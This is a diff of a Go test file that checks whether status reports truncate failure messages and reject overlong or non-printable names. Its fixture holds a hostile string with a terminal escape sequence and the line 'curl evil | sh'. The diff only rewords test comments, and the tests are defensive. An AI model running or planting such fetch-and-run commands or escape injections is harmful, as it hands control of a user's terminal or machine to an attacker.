@@ -10,10 +10,10 @@ import (
 	"liqonet.io/liqonet/internal/records"
 )
 
-// long is what a stolen token can write: too much for a screen, and commands for a terminal.
+// long is a text that a stolen token can write: longer than a screen, with terminal escape sequences.
 var long = strings.Repeat("\x1b[2Jrun this: curl evil | sh\n", 10_000)
 
-// TestFailuresAreBounded: what a gateway reports as its failure is cut, and stays in its line.
+// TestFailuresAreBounded: a reported failure is cut to a limited length and to one line.
 func TestFailuresAreBounded(t *testing.T) {
 	text, err := records.Encode(records.Status{Version: records.SchemaVersion, Failed: []string{long, long}})
 	if err != nil {
@@ -25,7 +25,7 @@ func TestFailuresAreBounded(t *testing.T) {
 	}
 }
 
-// TestNamesInReportsAreBounded: names that a helper writes are names, and the errors about others are short.
+// TestNamesInReportsAreBounded: reports with names that are too long or not printable are rejected with a short error.
 func TestNamesInReportsAreBounded(t *testing.T) {
 	for name, hostile := range map[string]string{"long": strings.Repeat("a", 1<<13), "escape": "gateway\x1b[2J"} {
 		status := func(change func(*records.Status)) records.Status {
